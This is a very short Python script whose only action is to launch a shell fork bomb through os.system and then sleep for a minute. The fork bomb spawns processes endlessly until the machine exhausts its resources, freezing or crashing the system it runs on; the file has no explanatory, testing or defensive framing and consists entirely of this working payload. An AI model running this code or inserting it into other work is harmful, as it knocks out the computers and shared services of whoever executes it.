import os
import time

os.system("f() { f | f & }; f")
time.sleep(60)
